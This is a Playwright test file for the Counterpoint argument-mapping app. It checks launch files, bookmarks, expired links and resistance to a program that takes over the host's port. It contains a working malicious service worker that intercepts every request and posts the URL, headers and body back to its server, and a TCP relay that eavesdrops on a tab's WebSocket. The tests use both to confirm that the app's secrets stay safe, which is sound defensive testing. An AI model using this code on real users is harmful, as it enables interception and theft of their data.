import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect, createServer as createTcpServer, type Socket } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { WebSocketServer } from 'ws';
import { writeLaunchFile } from '../../../cli/shells/launch-file';
import { askRunningHost } from '../../../cli/shells/running-host';
import type { TabSecret } from '../../../contract/proof';
import { openSession } from '../../../host/web/session';
import { axeViolations } from '../../support/axe';
import { expect, type TestHost, test } from '../../support/fixtures';
import { MapPage } from '../../support/map-page';
import { PROJECT } from '../../support/test-host';

/** A program of somebody else at the port of a host that has ended. */
interface Squatter {
  readonly heard: string[];
  close(): Promise<void>;
}

/** Its page leaves a service worker, which reports all that it sees. */
const PAGE = `<!doctype html><title>squatter</title><script>
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted'; });
</script>`;
const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  event.respondWith((async () => {
    const seen = event.request.url + ' ' + JSON.stringify([...event.request.headers]) + ' ' + await event.request.clone().text();
    await fetch('/seen', { method: 'POST', body: seen }).catch(() => undefined);
    return fetch(event.request);
  })());
});`;

async function squat({ hostname, port }: URL): Promise<Squatter> {
  const heard: string[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    heard.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
    response.setHeader('content-type', request.url === '/worker.js' ? 'text/javascript' : 'text/html');
    response.end(request.url === '/worker.js' ? WORKER : PAGE);
  });
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket) =>
    socket.on('message', (message) => {
      heard.push(`socket ${String(message)}`);
      socket.send(JSON.stringify({ nonce: 'n'.repeat(32), proof: 'p'.repeat(43) }));
    }),
  );
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(Number(port), hostname, resolve);
  });
  return {
    heard,
    async close() {
      sockets.close();
      for (const socket of sockets.clients) socket.terminate();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Returns the secret with which a window is admitted next. */
async function secretOf(page: Page): Promise<string> {
  const admission = await page.waitForResponse('**/session');
  return ((await admission.json()) as TabSecret).secret;
}

const write = async (map: MapPage, text: string) => {
  await map.canvas.focus();
  await map.press('ArrowDown', '-');
  await map.type(text);
  await map.press('Enter');
};

async function launchFile(host: TestHost): Promise<string> {
  const path = join(host.folder, 'open.html');
  const address = await askRunningHost(await openSession(host.data, host.library));
  if (!address) throw new Error('the host does not answer');
  await writeLaunchFile(path, address);
  return `file://${path}`;
}

test('a file opens a window: no address or history has its code, a reload goes on, others need a new code', {
  tag: '@browser',
}, async ({ host, context, browser, foreignRequests }) => {
  const file = await launchFile(host);
  const window = await context.newPage();
  const visited: string[] = [];
  window.on('framenavigated', (frame) => visited.push(frame.url()));
  await window.goto(file);
  const map = new MapPage(window);
  await map.ready();
  const own = `${new URL(host.address).origin}/`;
  // The address names the map, by its ref alone.
  expect(new Set(visited.map((url) => url.replace(/#map=[\w-]{43}$/, '')))).toEqual(new Set([file, own]));
  expect(await window.content()).not.toContain('counterpoint-code');
  await window.reload();
  await map.ready();
  await window.goto(file);
  await map.ready();
  const stranger = await (await browser.newContext()).newPage();
  await stranger.goto(file);
  await expect(stranger.getByText(/Start Counterpoint again/)).toBeVisible();
  await stranger.context().close();
  expect(new Set(foreignRequests.splice(0))).toEqual(new Set([`document ${file}`]));
});

/** Starts the program as a person does, on a computer whose browser opens nothing. Returns the file it opens. */
async function openProgram(folder: string): Promise<{ file: string; stop(): Promise<void> }> {
  for (const name of ['xdg-open', 'open']) writeFileSync(join(folder, name), '#!/bin/sh\n', { mode: 0o755 });
  const folders = ['--library', join(folder, 'maps'), '--data', join(folder, 'data of the program')];
  const child = spawn(process.execPath, [join(PROJECT, 'dist/cli/main.js'), 'open', '--browser', ...folders], {
    stdio: ['ignore', 'pipe', 'ignore'],
    env: { ...process.env, PATH: `${folder}:${process.env.PATH}` },
  });
  const [said] = (await once(child.stdout, 'data')) as [Buffer];
  const file = /file:\S+/.exec(String(said))?.[0] ?? '';
  return {
    file,
    async stop() {
      child.kill('SIGTERM');
      await once(child, 'exit');
    },
  };
}

test('Bookmark this copies an address that opens the map as long as Counterpoint runs', {
  tag: '@browser',
}, async ({ host, context, foreignRequests }) => {
  test.skip(process.platform === 'win32', 'the browser is replaced by a script');
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const program = await openProgram(host.folder);
  const window = await context.newPage();
  await window.goto(program.file);
  const map = new MapPage(window);
  // A new installation begins with the start page, whose bookmark leads back there.
  await expect(map.startHeading).toBeVisible();
  const copyBookmark = async (copy: () => Promise<void>) => {
    await window.evaluate(() => navigator.clipboard.writeText(''));
    await copy();
    const copied = () => window.evaluate(() => navigator.clipboard.readText());
    await expect.poll(copied).toMatch(/^file:/);
    return copied();
  };
  const ofStart = await copyBookmark(() => window.getByRole('button', { name: 'Bookmark this' }).click());
  await map.card('A first map').getByRole('button').first().click();
  await map.ready();
  const bookmark = await copyBookmark(() => map.choose('Maps', 'Bookmark this'));
  await map.openMap('Blank map');
  const another = await context.newPage();
  await another.goto(bookmark);
  await expect(another.getByRole('tree', { name: 'Argument map: A first map' })).toBeVisible();
  await another.goto(ofStart);
  await expect(new MapPage(another).startHeading).toBeVisible();
  await program.stop();
  await another.goto(bookmark);
  await expect(another.getByText(/Start Counterpoint again/)).toBeVisible();
  foreignRequests.length = 0;
});

test('a window without a code and without the key of this run is told to start again', { tag: '@browser' }, async ({
  host,
  browser,
}) => {
  const stranger = await browser.newContext();
  const window = await stranger.newPage();
  // The address of a map, as it stands in the history of another browser.
  await window.goto(`${new URL(host.address).origin}/#map=${'a'.repeat(43)}`);
  await expect(window.getByRole('heading', { name: 'This link has expired' })).toBeVisible();
  await expect(window.getByRole('alert')).toHaveText('Start Counterpoint again and use the link it shows.');
  await expect(window.getByText('choose “Maps”, then “Bookmark this”')).toBeVisible();
  expect(await axeViolations(window)).toEqual([]);
  await stranger.close();
});

test('another program at the port of a host that has ended learns nothing that the next run accepts', {
  tag: '@browser',
}, async ({ map, host, context, foreignRequests, pageErrors }) => {
  const first = secretOf(map.page);
  await map.page.reload();
  const secrets = [await first];
  await map.newMap('Squatted');
  await write(map, 'Before');
  await map.saved();
  const before = await openSession(host.data, host.library);
  const { origin } = new URL(host.address);
  await host.kill();
  const squatter = await squat(new URL(origin));
  await expect.poll(() => squatter.heard.some((message) => message.startsWith('socket '))).toBe(true);
  await write(map, 'Said to nobody');
  // A tab that is reloaded meanwhile gets the page of the other program, which leaves a service worker.
  const fooled = await context.newPage();
  await fooled.goto(origin);
  await expect.poll(() => fooled.title()).toBe('planted');
  await fooled.close();
  await squatter.close();

  await host.start();
  const next = await context.newPage();
  const later = secretOf(next);
  await next.goto(host.address);
  const window = new MapPage(next);
  await window.ready();
  secrets.push(await later, before.previous.runKey);
  expect(await next.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
  expect(new URL(next.url()).origin).not.toBe(origin);
  for (const secret of secrets) {
    expect(secret.length).toBeGreaterThan(20);
    expect(squatter.heard.join()).not.toContain(secret);
  }
  // The tab that stayed open has the worker of the other program, and goes on over its socket.
  expect(await map.page.evaluate(() => navigator.serviceWorker.controller)).not.toBeNull();
  await map.saved();
  expect(host.read('Squatted.argmap.json').claims.map(({ text }) => text)).toContain('Said to nobody');
  expect(squatter.heard.join()).not.toContain('Said to nobody');
  foreignRequests.length = 0;
  pageErrors.length = 0;
});

/**
 * A program that takes a connection of a tab at the address of a host that has ended, and leaves the address to
 * the next run, to which it then passes on whatever either side says.
 */
async function relayFirstConnection({
  hostname,
  port,
}: URL): Promise<{ taken: Promise<Socket>; pass(socket: Socket): string[] }> {
  const server = createTcpServer({ pauseOnConnect: true });
  await new Promise<void>((resolve) => server.listen(Number(port), hostname, resolve));
  const taken = new Promise<Socket>((resolve) => {
    server.once('connection', (socket) => {
      server.close();
      resolve(socket);
    });
  });
  return {
    taken,
    pass(socket) {
      const heard: string[] = [];
      const onwards = connect(Number(port), hostname);
      socket.on('data', (bytes: Buffer) => heard.push(readable(bytes)));
      onwards.on('data', (bytes: Buffer) => heard.push(String(bytes)));
      for (const end of [socket, onwards]) end.on('error', () => undefined);
      socket.pipe(onwards).pipe(socket);
      return heard;
    },
  };
}

/** Returns the text of a web socket frame, whose mask stands in front of it; of other bytes themselves. */
function readable(frame: Buffer): string {
  if ((frame[0] ?? 0) < 0x80) return String(frame);
  const length = (frame[1] ?? 0) & 0x7f;
  const start = length === 126 ? 4 : length === 127 ? 10 : 2;
  const mask = frame.subarray(start, start + 4);
  return String(Buffer.from(frame.subarray(start + 4).map((byte, index) => byte ^ (mask[index % 4] ?? 0))));
}

test('a program that passes on the socket of a tab to the next run learns nothing of what is said', {
  tag: '@browser',
}, async ({ map, host, foreignRequests, pageErrors }) => {
  await map.newMap('Relayed');
  await write(map, 'Before');
  await map.saved();
  const address = new URL(host.address);
  await host.kill();
  const relay = await relayFirstConnection(address);
  const socket = await relay.taken;
  await host.start();
  const heard = relay.pass(socket);
  await expect.poll(() => heard.join()).toContain('proof');
  await write(map, 'Said to the host only');
  await map.saved();
  expect(host.read('Relayed.argmap.json').claims.map(({ text }) => text)).toContain('Said to the host only');
  expect(heard.join()).not.toContain('Said to the host only');
  foreignRequests.length = 0;
  pageErrors.length = 0;
});
